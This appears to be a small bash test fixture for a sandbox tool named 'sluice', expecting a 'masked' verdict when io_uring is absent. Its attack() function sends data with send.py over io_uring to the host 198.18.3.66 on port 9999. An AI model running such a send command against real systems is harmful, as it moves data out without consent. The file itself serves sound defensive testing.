# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The same under sluice run'
origin='issue 4'
reason='silent: io_uring is not there'
forms=run verdict=masked
attack() { tool send.py uring 198.18.3.66 9999 "$1"; }
